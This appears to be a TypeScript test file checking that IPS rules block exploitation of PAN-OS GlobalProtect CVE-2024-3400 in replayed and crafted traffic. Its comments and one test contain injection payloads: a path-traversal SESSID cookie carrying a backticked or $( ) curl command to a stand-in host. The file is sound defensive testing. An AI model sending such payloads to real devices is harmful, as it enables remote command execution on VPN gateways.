/**
 * PAN-OS GlobalProtect CVE-2024-3400 virtual patch (sids 7103600, 7103601) against real and re-framed
 * traffic, with the whole built-in pack loaded (prevent mode).
 *
 * Traffic:
 * - traffic/*.pcap were captured with tcpdump by ../proxylogon/traffic/capture.sh: curl (-b, --data,
 *   --next for keep-alive) in network namespace tsv-web2-cli (198.18.3.129) against a node http server
 *   on port 8080 standing in for the GlobalProtect portal/gateway in tsv-web2-srv (198.18.3.130).
 *   Attacks follow Volexity's and watchTowr's write-ups: the hipreport.esp request with
 *   SESSID=/../../../opt/panlogs/tmp/device_telemetry/minute/x`curl${IFS}...`; watchTowr's
 *   ./../ file-creation check on login.esp after a benign request on one connection; the traversal
 *   and command percent-encoded in a lower-case cookie name. Benign: login.esp, prelogin.esp,
 *   getconfig.esp and a HIP report with a base64-looking SESSID (with "/" and "+").
 * - Crafted variants resend edits of those requests with engine/ips.testing.ts TcpConversation.
 */
import { dirname, join } from "node:path";
import { fileURLToPath } from "node:url";
import { test } from "uvu";
import * as assert from "uvu/assert";
import { packRig, replay } from "../../testing.ts";
import { blockedCaptureTests, cutCapturesTest, type CutOptions, folderTest, sendCut } from "../../http.testing.ts";

const here = dirname(fileURLToPath(import.meta.url));
const pcap = (name: string): string => join(here, "traffic", `${name}.pcap`);
const rig = packRig();

const CUT: CutOptions = { dport: 8080, keepOpen: true };
/** `sendCut` on this rig, the flow left open (no end-of-flow flush before the assertions). */
const cut = (req: Uint8Array | string, size: number, reverse = false): void => sendCut(rig, req, size, reverse, CUT);

folderTest(here);

blockedCaptureTests(rig, here, [
  ["hipreport-cmd", 7103600, "the published hipreport.esp exploit"],
  ["login-file-keepalive", 7103600, "watchTowr's ./../ check on login.esp after a benign request"],
  ["encoded-cookie", 7103600, "the traversal percent-encoded in a lower-case cookie name"],
], (_name, _sid, what) => `${what} is blocked (captured curl)`);

cutCapturesTest(rig, here, "the published request in 1-byte segments, and reversed 6-byte pieces, is still blocked", [
  { capture: "hipreport-cmd", sid: 7103600, size: 1 },
  { capture: "hipreport-cmd", sid: 7103600, size: 6, reverse: true },
], CUT);

test("shell syntax in SESSID without a traversal is blocked by the command rule", () => {
  cut("POST /ssl-vpn/hipreport.esp HTTP/1.1\r\nHost: gp\r\nCookie: lang=en; SESSID=x$(curl${IFS}evil)\r\nContent-Length: 11\r\n\r\nuser=global", 2);
  assert.ok(rig.blockedBy(7103601), JSON.stringify(rig.alerts));
});

test("benign GlobalProtect traffic (and PHPSESSID with dots elsewhere) raises nothing", () => {
  rig.reset();
  replay(rig, pcap("benign-gp"));
  assert.equal(rig.alertSids(), []);
  cut("GET /global-protect/portal/css/login.css HTTP/1.1\r\nHost: gp\r\nCookie: PHPSESSID=../x; SESSID=Zm9v/+YmFy==\r\n\r\n", 50);
  assert.equal(rig.alertSids(), []);
});

test.run();
